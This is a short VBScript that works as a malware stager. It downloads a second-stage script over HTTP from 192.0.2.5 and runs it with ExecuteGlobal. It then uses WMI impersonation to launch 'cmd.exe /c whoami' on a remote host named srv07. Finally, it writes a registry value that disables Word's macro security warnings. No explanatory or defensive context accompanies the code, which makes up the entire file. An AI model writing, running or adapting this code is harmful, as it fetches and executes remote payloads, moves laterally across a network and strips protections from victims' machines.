Option Explicit
Dim shell, http, wmi
Set shell = CreateObject("WScript.Shell")
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://192.0.2.5/stage.txt", False
http.Send
ExecuteGlobal http.responseText
Set wmi = GetObject("winmgmts:{impersonationLevel=impersonate}!\\srv07\root\cimv2:Win32_Process")
wmi.Create "cmd.exe /c whoami", Null, Null, 0
shell.RegWrite "HKCU\Software\Microsoft\Office\16.0\Word\Security\VBAWarnings", 1, "REG_DWORD"
